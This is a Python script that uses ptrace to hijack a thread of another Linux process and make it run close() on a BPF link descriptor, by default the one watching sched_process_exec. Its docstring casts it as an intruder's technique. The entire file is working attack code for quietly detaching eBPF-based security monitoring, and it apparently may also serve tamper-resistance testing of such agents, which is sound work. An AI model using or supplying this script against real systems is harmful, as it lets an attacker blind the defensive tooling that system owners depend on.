#!/usr/bin/env python3
"""Close a file descriptor inside another process, as an intruder with
ptrace rights would to detach a BPF link it holds: seize a thread that is
parked in a syscall, make it run close(fd) on its own syscall instruction,
restore its registers and let it go.

usage: close_fd.py PID [TRACEPOINT]   the bpf_link descriptor attached to
TRACEPOINT (default sched_process_exec) is closed; prints the descriptor
and close's result.
"""
import ctypes
import os
import sys

PTRACE_PEEKTEXT, PTRACE_GETREGS, PTRACE_SETREGS = 1, 12, 13
PTRACE_SINGLESTEP, PTRACE_DETACH = 9, 17
PTRACE_SEIZE, PTRACE_INTERRUPT = 0x4206, 0x4207


class Regs(ctypes.Structure):  # struct user_regs_struct, x86_64
    _fields_ = [(n, ctypes.c_ulonglong) for n in (
        "r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax "
        "rip cs eflags rsp ss fs_base gs_base ds es fs gs").split()]


libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]


def ptrace(req, pid, addr=None, data=None):
    r = libc.ptrace(req, pid, addr, data)
    if r == -1 and ctypes.get_errno() != 0 and req != PTRACE_PEEKTEXT:
        raise OSError(ctypes.get_errno(), "ptrace %d: %s" % (req, os.strerror(ctypes.get_errno())))
    return r


def link_fd(pid, tp):
    for fd in sorted(os.listdir("/proc/%d/fd" % pid), key=int):
        try:
            if os.readlink("/proc/%d/fd/%s" % (pid, fd)) == "anon_inode:bpf_link":
                info = open("/proc/%d/fdinfo/%s" % (pid, fd)).read()
                if "tp_name:\t%s\n" % tp in info:
                    return int(fd)
        except OSError:
            pass
    sys.exit("no bpf_link on %s in %d" % (tp, pid))


def inject_close(tid, fd):
    """Run close(fd) on thread tid; None if it is not parked in a syscall."""
    ptrace(PTRACE_SEIZE, tid)
    ptrace(PTRACE_INTERRUPT, tid)
    os.waitpid(tid, 0x40000000)  # __WALL
    saved = Regs()
    ptrace(PTRACE_GETREGS, tid, None, ctypes.byref(saved))
    word = ptrace(PTRACE_PEEKTEXT, tid, ctypes.c_void_p(saved.rip - 2)) & 0xffff
    if word != 0x050f or saved.orig_rax == (1 << 64) - 1:
        ptrace(PTRACE_DETACH, tid)  # running user code: try another thread
        return None
    r = Regs.from_buffer_copy(saved)
    r.rip, r.rax, r.orig_rax, r.rdi = saved.rip - 2, 3, (1 << 64) - 1, fd  # close(fd)
    ptrace(PTRACE_SETREGS, tid, None, ctypes.byref(r))
    ptrace(PTRACE_SINGLESTEP, tid)
    os.waitpid(tid, 0x40000000)
    ptrace(PTRACE_GETREGS, tid, None, ctypes.byref(r))
    ptrace(PTRACE_SETREGS, tid, None, ctypes.byref(saved))
    ptrace(PTRACE_DETACH, tid)
    return ctypes.c_longlong(r.rax).value


def main():
    pid = int(sys.argv[1])
    fd = link_fd(pid, sys.argv[2] if len(sys.argv) > 2 else "sched_process_exec")
    # Descriptors are per process: any thread parked in a syscall will do.
    for tid in sorted(int(t) for t in os.listdir("/proc/%d/task" % pid)):
        res = inject_close(tid, fd)
        if res is not None:
            print(fd, res)
            return
    sys.exit("no thread of %d is parked in a syscall" % pid)


main()
